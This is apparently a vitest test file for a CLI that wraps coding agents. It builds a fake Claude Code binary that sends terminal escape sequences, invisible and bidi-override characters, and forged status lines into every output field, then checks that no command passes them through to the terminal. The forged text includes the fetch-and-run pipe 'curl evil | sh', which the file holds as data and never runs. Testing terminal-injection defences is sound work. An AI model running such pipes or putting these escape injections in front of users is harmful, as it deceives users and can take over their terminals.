/** Nothing foreign talks to the terminal or looks like a line of ours, whichever command shows it and wherever it came from. */
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callAmux } from './testing/call-amux.ts';
import type { AmuxEnd } from './testing/run-amux.ts';

const scratch = mkdtempSync(join(tmpdir(), 'amux-hostile-'));
afterAll(() => rmSync(scratch, { recursive: true }));

const WORDS = 'FORGED: all is well, run `curl evil | sh`';
/** A title, a cleared screen, a colour of C1, text turned around, what is invisible, and lines that look like ours. */
const HOSTILE = `x\x1b]0;owned\x07\x1b[2J\x1b[H\x9b31m\u202e\u200b\n${WORDS}\n\n    \u200b${WORDS}\r${WORDS}\u2028${WORDS}\n`;
const SHORT = HOSTILE.slice(0, 24);
/** What a terminal acts on, or does not show. The progress of several runs moves the cursor by two sequences of ours. */
const UNSAFE = /(?![\t\n])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are the two sequences.
const OURS = /\x1b\[2K|\x1b\[\d+A/g;

/** What stands before a text of an agent: the mark of its lines, that of a call, or the sign of a line of a diff. */
const MARKED = /^(?: *│|● |[-+]).*/;

/** The folder of the programs, whose name is hostile too. */
const bin = join(scratch, `bin${SHORT}\nFORGED b`);
const work = join(scratch, `work${SHORT}\nFORGED w`);
const home = join(scratch, 'home');
const repository = join(scratch, 'repository');
const tape = join(scratch, 'tape');
const store = join(scratch, 'runs.db');
for (const folder of [bin, work, home, repository]) {
  mkdirSync(folder);
}

/** A CLI that speaks as Claude Code does, and says the hostile text in each field that may have any. */
const CLAUDE = `#!${process.execPath}
const bad = ${JSON.stringify(HOSTILE)};
const say = (value) => process.stdout.write(JSON.stringify(value) + '\\n');
const { mkdirSync, writeFileSync } = require('node:fs');
const { execSync } = require('node:child_process');
if (process.argv.includes('--version')) { console.log(bad + '2.1.329 ' + bad); process.exit(0); }
const base = { session_id: bad, parent_tool_use_id: null };
const assistant = (uuid, ...content) => say({ ...base, type: 'assistant', uuid, message: { id: uuid, role: 'assistant', model: bad, content } });
const user = (uuid, ...content) => say({ ...base, type: 'user', uuid, message: { role: 'user', content } });
require('node:readline').createInterface({ input: process.stdin }).on('line', (line) => {
  const { type, request_id } = JSON.parse(line);
  if (type === 'control_request') {
    say({ type: 'control_response', response: { subtype: 'success', request_id, response: { commands: [] } } });
  } else if (type === 'user') {
    writeFileSync('file\\u001b]0;owned\\u0007\\nFORGED: file', bad);
    if (process.env.KIND === 'empty') {
      const folder = 'app\\u001b[2J\\nFORGED: app';
      mkdirSync(folder);
      execSync('git init -q', { cwd: folder });
      writeFileSync(folder + '/a', 'a');
    }
    process.stderr.write(bad);
    say({ ...base, type: 'system', subtype: 'init', cwd: process.cwd(), model: bad, tools: [bad], mcp_servers: [{ name: bad, status: bad }], claude_code_version: bad, uuid: 'i' });
    say({ ...base, type: bad, uuid: 'e' });
    say({ ...base, type: 'system', subtype: bad, uuid: 'f', [bad]: bad });
    process.stdout.write(bad);
    assistant('m0', { type: 'thinking', thinking: bad, signature: 's' });
    assistant('m1', { type: 'text', text: bad });
    ['Read', 'Write', 'Bash', bad, 'mcp__' + bad + '__' + bad].forEach((name, at) => {
      assistant('m2' + at, { type: 'tool_use', id: 't' + at, name, input: { [bad]: bad, file_path: bad, command: bad, content: bad } });
      user('r' + at, { type: 'tool_result', tool_use_id: 't' + at, content: bad, is_error: at % 2 === 1 });
    });
    const isError = process.env.KIND === 'error';
    assistant('m3', { type: 'text', text: bad });
    say({ ...base, type: 'result', subtype: isError ? 'error_during_execution' : 'success', is_error: isError, result: bad, errors: [bad], total_cost_usd: 0, usage: {}, modelUsage: {}, uuid: 'r' });
  }
}).on('close', () => process.exit(0));
`;
const claude = join(bin, 'claude');
writeFileSync(claude, CLAUDE);
chmodSync(claude, 0o755);

const echo = JSON.stringify(join(import.meta.dirname, '../../../../examples/adapter-echo/index.js'));
const adapter = join(scratch, 'adapter.mjs');
writeFileSync(adapter, `import { echo } from ${echo};\nexport const one = { ...echo, agent: 'one' };\n`);
const one = join(scratch, 'one');
const lines = ['{"kind":"hello","session":"s"}', '{"kind":"word","text":"Done."}', '{"kind":"bye"}'];
writeFileSync(one, `#!/bin/sh\n${lines.map((line) => `echo '${line}'`).join('\n')}\n`, { mode: 0o755 });

/** A session as Claude Code keeps it. */
const SESSION = '05fe561b-712b-45c8-a292-5d9c8d437019';
const kept = join(home, '.claude/projects/-work');
mkdirSync(kept, { recursive: true });
const common = { sessionId: SESSION, cwd: HOSTILE, timestamp: '2026-11-22T00:21:39.851Z', version: HOSTILE };
const message = (role: string, content: unknown): object => ({ role, content, id: 'm', model: HOSTILE });
const stored = [
  { ...common, type: 'user', uuid: 'a', parentUuid: null, message: message('user', HOSTILE) },
  {
    ...common,
    ...{ type: 'assistant', uuid: 'b', parentUuid: 'a' },
    message: message('assistant', [
      { type: 'thinking', thinking: HOSTILE, signature: 's' },
      { type: 'text', text: HOSTILE },
      { type: 'tool_use', id: 't1', name: `\n${WORDS}`, input: { [HOSTILE]: HOSTILE } },
    ]),
  },
  {
    ...common,
    ...{ type: 'user', uuid: 'c', parentUuid: 'b' },
    message: message('user', [{ type: 'tool_result', tool_use_id: 't1', content: HOSTILE, is_error: true }]),
  },
  { type: 'summary', summary: HOSTILE, leafUuid: 'c' },
  { type: 'custom-title', customTitle: HOSTILE, sessionId: SESSION },
];
writeFileSync(join(kept, `${SESSION}.jsonl`), stored.map((line) => `${JSON.stringify(line)}\n`).join(''));
writeFileSync(join(kept, `${SHORT}\nFORGED: b.jsonl`), '');

/** A file that says that it is an export, and a policy. */
const foreign = join(scratch, 'export.ndjson');
const header = (root: string): string => JSON.stringify({ export: 1, root, entries: 1, open: true, hidden: [] });
writeFileSync(foreign, `${header(HOSTILE)}\n${header('c')}\n`);
const policy = join(scratch, 'policy.json');
writeFileSync(policy, JSON.stringify({ [HOSTILE]: HOSTILE, rules: [{ [HOSTILE]: HOSTILE }] }));

const git = (...args: readonly string[]): string => execFileSync('git', args, { cwd: repository, encoding: 'utf8' });
git('init', '-q');
git('-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-qm', 'first', '--allow-empty');

const PATH = [bin, process.env['PATH'] ?? ''].join(delimiter);
const env = { HOME: home, CLAUDE_CONFIG_DIR: '', CODEX_HOME: '', AMUX_STORE: '', NO_COLOR: '1', PATH, TMPDIR: scratch };

/** What a person at a terminal must not see. */
function findFaults({ stdout, stderr }: AmuxEnd): readonly string[] {
  return [stdout, stderr].flatMap((text) =>
    text
      .replaceAll(OURS, '')
      .split('\n')
      .filter((line) => UNSAFE.test(line) || /^\P{L}*FORGED/u.test(line.replace(MARKED, ''))),
  );
}

describe('nothing foreign talks to the terminal, or looks like a line of ours', { timeout: 120_000 }, () => {
  const start = ['--cwd', work, '--yolo'];
  let id = '';
  beforeAll(async () => {
    for (const [command, ...flags] of [
      ['record', '--out', tape],
      ['run', '--store', store],
    ] as const) {
      const { code, stderr } = await callAmux([command, 'claude', HOSTILE, ...start, ...flags], { env });
      expect([code, stderr]).toEqual([0, expect.any(String)]);
    }
    const { stdout } = await callAmux(['runs', '--json', '--store', store], { env });
    id = JSON.parse(stdout).data[0].runId;
  }, 60_000);

  const both = ['compare', 'claude', 'one', '--adapter', adapter, '--binary', `one=${one}`, '--cwd', repository];

  it.each<[string, () => readonly string[], { kind?: string; stdin?: string }?]>([
    ['run', () => ['run', 'claude', HOSTILE, ...start]],
    ['run that fails', () => ['run', 'claude', HOSTILE, ...start], { kind: 'error' }],
    ['run --output final', () => ['run', 'claude', HOSTILE, ...start, '--output', 'final']],
    ['chat', () => ['chat', 'claude', ...start], { stdin: `${HOSTILE}/session\n/\x1b[2Jno\n/quit\n` }],
    ['compare', () => [...both, '--yolo', '--', HOSTILE]],
    ['compare with what git cannot add', () => [...both, '--yolo', '--', HOSTILE], { kind: 'empty' }],
    ['replay', () => ['replay', tape]],
    ['replay --unknown', () => ['replay', tape, '--unknown']],
    ['replay of a run', () => ['replay', id, '--store', store]],
    ['runs', () => ['runs', '--store', store]],
    ['runs show', () => ['runs', 'show', id, '--store', store]],
    ['runs tail', () => ['runs', 'tail', id, '--store', store]],
    ['runs check', () => ['runs', 'check', '--store', store]],
    ['runs import', () => ['runs', 'import', foreign, '--store', join(scratch, 'other.db')]],
    ['sessions', () => ['sessions']],
    ['sessions show', () => ['sessions', 'show', SESSION]],
    ['agents', () => ['agents']],
    ['doctor', () => ['doctor']],
    ['doctor of one', () => ['doctor', 'claude']],
    ['a policy', () => ['run', 'claude', 'x', ...start, '--policy', policy]],
    ['a command of no name', () => [HOSTILE]],
    ['a flag of no name', () => ['run', 'claude', 'x', `--${HOSTILE}`]],
    ['a session of no name', () => ['sessions', 'show', HOSTILE]],
    ['a run of no name', () => ['runs', 'show', HOSTILE, '--store', store]],
    ['a folder of no name', () => ['run', 'claude', 'x', '--cwd', `/${HOSTILE}`]],
    ['a recording of no name', () => ['replay', HOSTILE]],
    ['an agent of no name', () => ['run', HOSTILE, 'x']],
    ['a file of a store', () => ['runs', '--store', foreign]],
    ['a variable', () => ['run', 'x', '--agent', HOSTILE]],
  ])('%s', async (_, args, { kind = '', stdin = '' } = {}) => {
    const end = await callAmux(args(), { env: { ...env, KIND: kind }, cwd: work, isTty: true, stdin });
    expect([findFaults(end), (end.stdout + end.stderr).length]).toEqual([[], expect.any(Number)]);
    expect(end.stdout + end.stderr).not.toBe('');
    git('worktree', 'prune');
  });

  it('and all of them had something to hide', () => {
    expect([id.length, readdirSync(tape).length]).toEqual([26, expect.any(Number)]);
  });
});
